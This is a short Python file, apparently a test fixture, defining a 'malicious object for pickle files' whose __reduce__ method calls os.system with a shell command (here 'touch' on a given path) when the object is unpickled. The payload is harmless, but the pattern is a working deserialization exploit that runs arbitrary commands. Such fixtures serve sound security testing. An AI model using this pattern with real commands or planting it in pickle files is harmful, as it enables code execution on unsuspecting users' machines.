"""A malicious object for pickle files."""

import os
from pathlib import Path


class Harm:
    """Runs a program when it is unpickled; the program creates the file."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self._path}",)
